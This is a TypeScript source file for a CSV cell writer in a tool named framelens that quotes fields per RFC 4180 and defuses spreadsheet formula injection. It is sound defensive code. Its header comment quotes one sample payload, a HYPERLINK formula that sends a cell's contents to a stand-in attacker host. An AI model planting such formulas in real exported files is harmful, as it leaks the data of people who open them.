/**
 * The one CSV cell writer of framelens: every data/*.csv file and the report page's CSV downloads
 * go through it. Dependency-free, so that the page's script can use it too.
 *
 * RFC 4180: a field holding a comma, a double quote or a line break is quoted, quotes doubled.
 * Spreadsheet formula injection (OWASP, "CSV Injection"): a text cell that starts with = + - @,
 * a tab or a carriage return would be run as a formula by Excel or LibreOffice
 * (=HYPERLINK("http://evil.example/?leak="&A1,"click")), so it gets a leading ' and is
 * quoted. Numbers that framelens computes are written as they are (-0.25 stays a number);
 * report.json keeps every text unchanged.
 */

/** Characters that make a spreadsheet read a cell as a formula when they come first. */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A text cell that a spreadsheet would run as a formula, with a leading ' so that it is shown as text. */
export function neutraliseFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** A text value as one CSV field: neutralised, then quoted when RFC 4180 needs it. */
export function csvText(text: string): string {
  const safe = neutraliseFormula(text);
  return /[",\r\n]/.test(safe) || safe !== text ? `"${safe.replaceAll('"', '""')}"` : safe;
}

/** One CSV field of a value: numbers and booleans as they are, text through csvText, missing values empty. */
export function csvCell(value: unknown, formatNumber: (n: number) => string = String): string {
  if (value === undefined || value === null) return '';
  if (typeof value === 'number') return formatNumber(value);
  if (typeof value === 'boolean') return String(value);
  return csvText(String(value));
}
